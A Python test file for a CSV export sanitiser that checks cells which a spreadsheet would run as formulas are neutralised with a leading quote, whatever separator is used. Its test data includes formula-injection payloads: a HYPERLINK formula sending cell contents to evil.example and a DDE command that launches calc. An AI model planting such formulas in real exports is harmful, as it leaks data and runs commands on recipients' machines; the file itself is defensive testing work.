"""Every CSV export neutralises text a spreadsheet would run as a formula (OWASP's rule)."""

import csv
import io

import pytest

from gateway.renderers import report_csv
from gateway.renderers.spreadsheet import FORMULA_STARTS, SafeCsvWriter, safe_cell


@pytest.mark.parametrize(
    "text",
    ['=HYPERLINK("http://evil.example/?"&A1,"Ver")', "@SUM(A1:A9)", "+1+1",
     "-2+3+cmd|' /C calc'!A0", "\tx", "\r1", "+51987654321"],
)
def test_text_that_would_start_a_formula_is_prefixed_with_a_quote(text: str) -> None:
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize(
    "value", ["uso 5", "", " =1", "ABC123", "2026-W48", 5, -2.5, 0, None, True]
)
def test_everything_else_is_left_as_it_is(value: object) -> None:
    assert safe_cell(value) == value


def test_the_writer_neutralises_every_text_cell_and_keeps_numbers() -> None:
    buffer = io.StringIO()
    SafeCsvWriter(buffer).writerows([["=1+1", -3, -0.25, "ok"], ["@x", "-", 7, ""]])
    assert list(csv.reader(io.StringIO(buffer.getvalue()))) == [
        ["'=1+1", "-3", "-0.25", "ok"], ["'@x", "'-", "7", ""]
    ]


def test_the_report_csv_keeps_negative_figures_numeric_and_neutralises_text() -> None:
    report = {"total_tco2e": -1.5, "notes": ["-sin visitas", "ok"], "by_district": []}
    lines = list(csv.reader(io.StringIO(report_csv.render(report))))
    assert ["summary", "", "total_tco2e", "-1.5"] in lines
    assert ["notes", "1", "note", "'-sin visitas"] in lines
    assert ["notes", "2", "note", "ok"] in lines


HOSTILE = [
    'a;=HYPERLINK("http://evil.example/?"&A1,"Ver")', "uso 5,+1+1", "ok\t@SUM(A1:A9)",
    "x;-2+3+cmd|' /C calc'!A0", "nota\n=1+1", "a;;=1", "a\t\t=1", "b;\t=1", "=1;=2,=3",
]  # fmt: skip


@pytest.mark.parametrize("separator", [",", ";", "\t"])
def test_no_cell_starts_a_formula_whatever_separator_the_spreadsheet_splits_on(
    separator: str,
) -> None:
    buffer = io.StringIO()
    SafeCsvWriter(buffer).writerows([[text, "ok", 5] for text in HOSTILE])

    rows = list(csv.reader(io.StringIO(buffer.getvalue()), delimiter=separator))

    cells = [cell for row in rows for cell in row]
    assert len(cells) > len(HOSTILE)  # the separator split some cells apart
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]


def test_text_without_a_formula_after_a_separator_is_unchanged() -> None:
    assert safe_cell("uso 5; fogon 2, bien") == "uso 5; fogon 2, bien"
    assert safe_cell("a;=1") == "a;'=1"
    assert safe_cell("\t=1+1") == "'\t'=1+1"  # a tab-splitting spreadsheet sees "'" and "'=1+1"
